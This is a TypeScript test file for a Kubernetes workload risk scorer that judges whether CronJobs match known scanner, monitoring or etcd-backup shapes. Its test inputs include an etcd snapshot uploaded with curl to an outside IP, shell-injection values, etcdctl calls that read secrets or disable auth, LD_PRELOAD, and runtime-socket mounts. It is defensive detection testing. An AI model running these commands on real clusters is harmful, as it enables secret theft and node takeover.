import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { gatherFacts } from '../facts/gather.ts';
import { parseImage } from '../facts/images.ts';
import { activityOf, readingOf } from '../facts/testing.ts';
import { assessAll, INDICATORS } from '../indicator/registry.ts';
import { cronJobBody } from '../indicator/testing.ts';
import type { Activity, Reading } from '../model/activity.ts';
import { atLeast } from '../model/finding.ts';
import type { Outcome } from '../model/indicator.ts';
import { type JsonObject, listAt, objectAt } from '../model/json.ts';
import { seen } from '../model/seen.ts';
import { type ContextShape, DATA_PLACES, PROGRAM_PLACES, SHAPE_POWER, SHAPES } from './context.ts';
import { coversPrograms } from './known-shape.ts';
import { type Assessment, assess } from './score.ts';
import { GROUP_CAPS, WEIGHTS } from './weights.ts';

const DELIVERY = { level: 'Request', cutAt: null, sameIdOtherContent: 0 };

/** Reading and facts of a CronJob with this pod spec. */
const partsOf = (spec: JsonObject, missing: Reading['missing'] = null) => {
  const reading = readingOf(cronJobBody(spec), missing);
  return { reading, facts: gatherFacts(activityOf({ readings: seen([reading]) }), reading, DELIVERY) };
};
const judge = (spec: JsonObject, missing: Reading['missing'] = null, activity: Partial<Activity> = {}): Assessment => {
  const parts = partsOf(spec, missing);
  return assess(activityOf(activity), [{ ...parts, outcomes: assessAll(parts.facts) }]);
};
/** The same without any context: a shape needs the reading. */
const judgeBare = (spec: JsonObject): Assessment => {
  const { facts } = partsOf(spec);
  return assess(activityOf(), [{ reading: null, facts, outcomes: assessAll(facts) }]);
};
const isLowered = ({ breakdown }: Assessment): boolean =>
  breakdown.risk.some(({ points, reason }) => points < 0 && SHAPES.some(({ says }) => reason.startsWith(says)));

interface Parts {
  readonly image: string;
  readonly command?: readonly string[];
  readonly args?: readonly string[];
  /** Path of the node and, where it differs, where it is mounted. */
  readonly mounts: readonly (readonly [path: string, mountPath: string, readOnly: boolean])[];
  readonly pod?: JsonObject;
  readonly container?: JsonObject;
}
const specOf = ({ image, command, args, mounts, pod = {}, container = {} }: Parts): JsonObject => ({
  ...pod,
  volumes: mounts.map(([path], at) => ({ name: `v${at}`, hostPath: { path } })),
  containers: [
    {
      name: 'main',
      image,
      ...(command === undefined ? {} : { command }),
      ...(args === undefined ? {} : { args }),
      volumeMounts: mounts.map(([, mountPath, readOnly], at) => ({ name: `v${at}`, mountPath, readOnly })),
      ...container,
    },
  ],
});

const NODE_FILES = [
  ['/var/lib/kubelet', '/var/lib/kubelet', true],
  ['/etc/systemd', '/etc/systemd', true],
  ['/etc/kubernetes', '/etc/kubernetes', true],
] as const;

/** Each shape as its project's documentation shows it. */
const USUAL: Record<string, Parts> = {
  'scanner.kube-bench': {
    image: 'docker.io/aquasec/kube-bench:v0.15.0',
    command: ['kube-bench', 'run', '--targets', 'node', '--benchmark=cis-1.10'],
    mounts: [...NODE_FILES, ['/usr/bin', '/usr/local/mount-from-host/bin', true]],
    pod: { hostPID: true },
  },
  'scanner.trivy-node-collector': {
    image: 'ghcr.io/aquasecurity/node-collector:0.3.1',
    command: ['node-collector'],
    args: ['k8s', '--node', 'node-1'],
    mounts: NODE_FILES,
    pod: { hostPID: true },
  },
  'scanner.kubescape-host-scanner': {
    image: 'quay.io/kubescape/host-scanner:v1.0.61',
    mounts: [['/', '/host_fs', true]],
    pod: { hostPID: true, hostIPC: true },
    container: { securityContext: { privileged: true, readOnlyRootFilesystem: true, procMount: 'Unmasked' } },
  },
  'monitor.node-exporter': {
    image: 'quay.io/prometheus/node-exporter:v1.9.0',
    args: ['--path.procfs=/host/proc', '--path.rootfs=/host/root', '--web.listen-address=[$(HOST_IP)]:9100'],
    mounts: [
      ['/proc', '/host/proc', true],
      ['/', '/host/root', true],
    ],
    pod: { hostNetwork: true, hostPID: true },
    container: { env: [{ name: 'HOST_IP', value: '0.0.0.0' }] },
  },
  'backup.etcd-snapshot': {
    image: 'registry.k8s.io/etcd:3.5.12-0',
    command: [
      '/bin/sh',
      '-c',
      'ETCDCTL_API=3 etcdctl --endpoints=https://127.0.0.1:2379 --cacert /etc/kubernetes/pki/etcd/ca.crt \\\n  --cert=/etc/kubernetes/pki/etcd/server.crt --key=/etc/kubernetes/pki/etcd/server.key snapshot save "/backup/etcd-$(date +%Y-%m-%d_%H:%M).db"\n',
    ],
    mounts: [
      ['/etc/kubernetes/pki/etcd', '/etc/kubernetes/pki/etcd', true],
      ['/srv/backup', '/backup', false],
    ],
    pod: { hostNetwork: true },
  },
  'maintenance.etcd': {
    image: 'registry.k8s.io/etcd:3.6.5-0',
    command: [
      'etcdctl',
      '--cacert=/pki/ca.crt',
      '--cert=/pki/server.crt',
      '--key=/pki/server.key',
      'defrag',
      '--cluster',
    ],
    mounts: [['/etc/kubernetes/pki/etcd', '/pki', true]],
    pod: { hostNetwork: true },
  },
};

const addMount = (parts: Parts, path: string, mountPath: string, readOnly: boolean): Parts => ({
  ...parts,
  mounts: [...parts.mounts, [path, mountPath, readOnly]],
});
/** One more mount, and the volume of that name where one is given. */
const addVolume = (parts: Parts, volume: JsonObject | null, mountPath: string): JsonObject => {
  const spec = specOf(parts);
  const [container] = listAt(spec, 'containers');
  return {
    ...spec,
    volumes: [...listAt(spec, 'volumes'), ...(volume === null ? [] : [{ name: 'more', ...volume }])],
    containers: [
      {
        ...objectAt({ container }, 'container'),
        volumeMounts: [...listAt(container, 'volumeMounts'), { name: 'more', mountPath }],
      },
    ],
  };
};
const withContainer = (parts: Parts, container: JsonObject): JsonObject =>
  specOf({ ...parts, container: { ...parts.container, ...container } });

/** One change each, after which the shape explains nothing. */
const CHANGES: Record<string, (usual: Parts) => JsonObject> = {
  'another image of that name': (usual) =>
    specOf({ ...usual, image: `docker.io/stranger/${parseImage(usual.image).base}:1` }),
  'the image from another registry': (usual) =>
    specOf({ ...usual, image: `registry.example.com/${parseImage(usual.image).repository}:1` }),
  'a shell': (usual) => specOf({ ...usual, command: ['/bin/sh', '-c', 'id'], args: [] }),
  'shell text that calls it and something else': (usual) =>
    specOf({ ...usual, command: ['/bin/sh', '-c', `${(usual.command ?? []).at(-1) ?? ''} ; id`], args: [] }),
  'one more word': (usual) => specOf({ ...usual, args: [...(usual.args ?? []), 'more'] }),
  'a flag that it does not need': (usual) => specOf({ ...usual, args: [...(usual.args ?? []), '--config-dir=/x'] }),
  'a writable mount of a sensitive place': (usual) => specOf(addMount(usual, '/etc/cron.d', '/etc/cron.d', false)),
  'the socket of the runtime': (usual) =>
    specOf(addMount(usual, '/run/containerd/containerd.sock', '/run/containerd/containerd.sock', true)),
  'a mount over its programs': (usual) => specOf(addMount(usual, '/srv/tools', '/usr/local/bin', true)),
  'a second container': (usual) => {
    const spec = specOf(usual);
    return {
      ...spec,
      containers: [...listAt(spec, 'containers'), { name: 'two', image: 'registry.example.com/two:1' }],
    };
  },
  'an init container': (usual) => ({
    ...specOf(usual),
    initContainers: [{ name: 'first', image: usual.image }],
  }),
  'a hook': (usual) => withContainer(usual, { lifecycle: { postStart: { exec: { command: ['id'] } } } }),
  'a probe that runs something': (usual) => withContainer(usual, { livenessProbe: { exec: { command: ['id'] } } }),
  'an environment that loads a library': (usual) =>
    withContainer(usual, { env: [{ name: 'LD_PRELOAD', value: '/var/lib/kubelet/x.so' }] }),
  'an environment from elsewhere': (usual) => withContainer(usual, { envFrom: [{ configMapRef: { name: 'x' } }] }),
  'scripts of a ConfigMap': (usual) => addVolume(usual, { configMap: { name: 'x' } }, '/tmp/x'),
  'a claim over its programs': (usual) =>
    addVolume(usual, { persistentVolumeClaim: { claimName: 'x' } }, '/usr/local/bin'),
  'a mount without a volume': (usual) => addVolume(usual, null, '/x'),
  'a dangerous capability': (usual) =>
    withContainer(usual, {
      securityContext: { ...objectAt(usual.container, 'securityContext'), capabilities: { add: ['SYS_PTRACE'] } },
    }),
};

for (const shape of SHAPES) {
  const usual = USUAL[shape.id];
  test(`${shape.id} has its usual case here`, () => assert.ok(usual !== undefined));
  if (usual === undefined) continue;
  const bare = judgeBare(specOf(usual));

  test(`${shape.id}: low in its usual shape, medium without the context, and the sum says so`, () => {
    const { severity, risk, breakdown } = judge(specOf(usual));
    assert.equal(bare.severity, 'medium');
    assert.equal(severity, 'low', JSON.stringify(breakdown));
    assert.equal(breakdown.risk.filter(({ reason }) => reason.includes(shape.id)).length, 1);
    assert.equal(
      breakdown.risk.reduce((sum, { points }) => sum + points, 0),
      risk,
    );
    assert.match(breakdown.severity, /^low: risk \d+ is at least 10$/);
  });

  for (const [change, make] of Object.entries(CHANGES)) {
    test(`${shape.id}, with ${change}: at least what it was without context`, () => {
      const changed = judge(make(usual));
      assert.equal(isLowered(changed), false, JSON.stringify(changed.breakdown));
      assert.ok(changed.risk >= bare.risk, `${changed.risk} < ${bare.risk}`);
      assert.ok(atLeast(changed.severity, 'medium'));
    });
  }

  test(`${shape.id}: a part of the body is not enough`, () => {
    assert.equal(isLowered(judge(specOf(usual), 'truncated')), false);
  });

  test(`${shape.id}: an anonymous write stays high`, () => {
    const parts = partsOf(specOf(usual));
    const anonymous = { ...activityOf().actor, username: 'system:anonymous', groups: [], kind: 'anonymous' as const };
    const facts = { ...parts.facts, actor: seen(anonymous) };
    const verdict = assess(activityOf({ actor: anonymous }), [{ ...parts, facts, outcomes: assessAll(facts) }]);
    assert.equal(isLowered(verdict), false);
    assert.ok(atLeast(verdict.severity, 'high'));
  });
}

test('an act beside a snapshot is as severe as without context', () => {
  const usual = USUAL['backup.etcd-snapshot'];
  assert.ok(usual !== undefined);
  const sends = 'etcdctl snapshot save /tmp/s.db && curl -T /tmp/s.db https://203.0.113.9/';
  assert.ok(judge(specOf({ ...usual, command: ['/bin/sh', '-c', sends] })).risk >= judgeBare(specOf(usual)).risk);
  for (const text of [
    'etcdctl snapshot save $(id)',
    'etcdctl snapshot save `id`',
    'etcdctl snapshot save a\nid',
    'etcdctl snapshot save a|id',
    'etcdctl snapshot save $(date +$(id))',
  ]) {
    assert.equal(isLowered(judge(specOf({ ...usual, command: ['/bin/sh', '-c', text] }))), false, text);
  }
});

test('of etcdctl only what tends etcd is explained', () => {
  const usual = USUAL['maintenance.etcd'];
  assert.ok(usual !== undefined);
  const isExplained = (...words: readonly string[]) =>
    isLowered(judge(specOf({ ...usual, command: ['etcdctl', ...words] })));
  assert.ok(isExplained('endpoint', 'status', '-w', 'table'));
  for (const words of [
    ['get', '--prefix', '/registry/secrets'],
    ['get', '/registry/secrets/default/db'],
    ['put', '/registry/clusterrolebindings/x', '{}'],
    ['del', '/registry/events', '--prefix'],
    ['snapshot', 'restore', '/tmp/s.db'],
    ['make-mirror', 'https://203.0.113.9:2379'],
    ['defrag', '--data-dir=/var/lib/etcd'],
    ['auth', 'disable'],
  ])
    assert.ok(!isExplained(...words), words.join(' '));
});

const KUBE_BENCH_CALLS: Record<string, readonly string[]> = {
  'a benchmark by its path': ['run', '--benchmark', '../../var/lib/kubelet/pods/x'],
  'a benchmark by its path, in one word': ['run', '--benchmark=/var/lib/kubelet/x'],
  'a benchmark above': ['run', '--benchmark', '..'],
  'a value with dots in it': ['run', '--benchmark', 'cis..x'],
  'an empty value': ['run', '--benchmark='],
};
for (const [call, words] of Object.entries(KUBE_BENCH_CALLS)) {
  test(`kube-bench with ${call} may run anything`, () => {
    const usual = USUAL['scanner.kube-bench'];
    assert.ok(usual !== undefined);
    assert.equal(isLowered(judge(specOf({ ...usual, command: ['kube-bench', ...words] }))), false);
  });
}

test('a claim is a place for a backup, and no place to scan', () => {
  for (const { id, readOnly } of SHAPES) {
    const usual = USUAL[id];
    assert.ok(usual !== undefined);
    const claim = { persistentVolumeClaim: { claimName: 'x' } };
    assert.equal(isLowered(judge(addVolume(usual, claim, '/data'))), !readOnly, id);
    assert.equal(isLowered(judge(addVolume(usual, { emptyDir: {} }, '/data'))), true, id);
  }
});

test('names, labels, annotations, owners and the user agent alone lower nothing', () => {
  const spec = specOf({
    image: 'registry.example.com/tool:1',
    command: ['kube-bench', 'run'],
    mounts: NODE_FILES,
    pod: { hostPID: true },
  });
  const claims = { app: 'kube-bench', 'app.kubernetes.io/managed-by': 'Helm' };
  const plain = activityOf();
  const named = judge(spec, null, {
    workload: { ...plain.workload, name: 'kube-bench', namespace: 'security', labels: claims, annotations: claims },
    actor: { ...plain.actor, claimedUserAgent: 'Helm/3.19' },
  });
  assert.equal(named.risk, judgeBare(spec).risk);
});

// Every member of every list is reached.
const caseWith = (shape: ContextShape, change: Partial<Parts>): Assessment => {
  const usual = USUAL[shape.id];
  assert.ok(usual !== undefined);
  return judge(specOf({ ...usual, ...change }));
};
for (const shape of SHAPES) {
  const { argv, env, images, explains } = shape;
  for (const image of images) {
    test(`${shape.id}: image ${image}`, () => {
      const { registry, repository } = parseImage(image);
      assert.equal(`${registry}/${repository}`, image);
      assert.ok(isLowered(caseWith(shape, { image: `${image}:1.2.3` })));
    });
  }
  for (const program of argv.programs) {
    const words = (argv.words[0] ?? []).map((word) => (word === '*' ? '/backup/s.db' : word));
    test(`${shape.id}: ${program} with each flag`, () => {
      const calls = [
        words,
        ...argv.words.map((each) => each.map((word) => (word === '*' ? 'x' : word))),
        ...argv.switches.map((flag) => [...words, flag]),
        ...argv.values.flatMap((flag) => [
          [`${flag}=x`, ...words],
          [...words, flag, 'x'],
        ]),
        ...argv.beginnings.map((beginning) => [...words, `${beginning}x=y`]),
      ];
      for (const call of calls) {
        assert.ok(isLowered(caseWith(shape, { command: [program, ...call], args: [] })), call.join(' '));
      }
      for (const flag of argv.values) {
        assert.equal(isLowered(caseWith(shape, { command: [program, ...words, flag], args: [] })), false, 'no value');
        assert.equal(isLowered(caseWith(shape, { command: [program, ...words, flag, '--x'], args: [] })), false);
      }
    });
  }
  test(`${shape.id}: its environment`, () => {
    assert.ok(
      isLowered(
        caseWith(shape, {
          container: { ...USUAL[shape.id]?.container, env: env.map((name) => ({ name, value: 'x' })) },
        }),
      ),
    );
  });
  test(`${shape.id}: it explains powers, and none of them alone would be low`, () => {
    for (const id of explains) assert.equal(WEIGHTS.get(id)?.group, 'power', id);
  });
  test(`${shape.id}: silence`, () => {
    const { command: _, args: __, ...silent } = USUAL[shape.id] ?? { image: '', mounts: [] };
    assert.equal(isLowered(judge(specOf(silent))), argv.mayBeSilent);
  });
}

for (const place of PROGRAM_PLACES) {
  test(`a mount at, below or above ${place} covers programs`, () => {
    for (const one of [
      place,
      `${place}/x`,
      `${place}/`,
      `/./${place}`,
      '/',
      '',
      'x',
      '/tmp/../bin',
      place.slice(0, place.lastIndexOf('/')) || '/',
    ]) {
      assert.ok(coversPrograms(one), one);
    }
  });
}
for (const place of DATA_PLACES) {
  test(`a mount at ${place} covers no program`, () =>
    assert.equal(coversPrograms(place) || coversPrograms(`${place}/x`), false));
}
test('a mount elsewhere covers no program', () => {
  for (const one of ['/host', '/backup', '/etc/kubernetes', '/usr/local/mount-from-host/bin', '/binary'])
    assert.equal(coversPrograms(one), false, one);
});

test('with all circumstances a known shape stays low', () => {
  assert.ok(SHAPE_POWER + GROUP_CAPS.circumstance < 30);
});

const anyHits = fc.subarray([...INDICATORS]);
const outcomesOf = (hits: readonly (typeof INDICATORS)[number][]): readonly Outcome[] =>
  hits.map((indicator) => ({ kind: 'hit', indicator, evidence: [{ says: 'It.', at: '', value: 'x' }] }));
const anyShape = fc.constantFrom(...Object.values(USUAL)).map((parts) => partsOf(specOf(parts)));

test('in a known shape too more evidence never lowers risk or severity, and the lines add up', () => {
  fc.assert(
    fc.property(anyShape, anyHits, anyHits, (parts, some, others) => {
      const verdictOn = (hits: typeof some) => assess(activityOf(), [{ ...parts, outcomes: outcomesOf(hits) }]);
      const less = verdictOn(some);
      const more = verdictOn([...new Set([...some, ...others])]);
      assert.ok(more.risk >= less.risk && atLeast(more.severity, less.severity));
      for (const { risk, breakdown } of [less, more]) {
        assert.equal(
          breakdown.risk.reduce((sum, { points }) => sum + points, 0),
          risk,
        );
      }
    }),
  );
});

test('context never lowers an act', () => {
  const acts = INDICATORS.filter(({ id }) => WEIGHTS.get(id)?.group === 'act');
  fc.assert(
    fc.property(anyShape, anyHits, fc.constantFrom(...acts), (parts, some, act) => {
      const outcomes = outcomesOf([...new Set([...some, act])]);
      const verdict = assess(activityOf(), [{ ...parts, outcomes }]);
      const bare = assess(activityOf(), [{ ...parts, reading: null, outcomes }]);
      assert.deepEqual([verdict.risk, verdict.severity], [bare.risk, bare.severity]);
    }),
  );
});
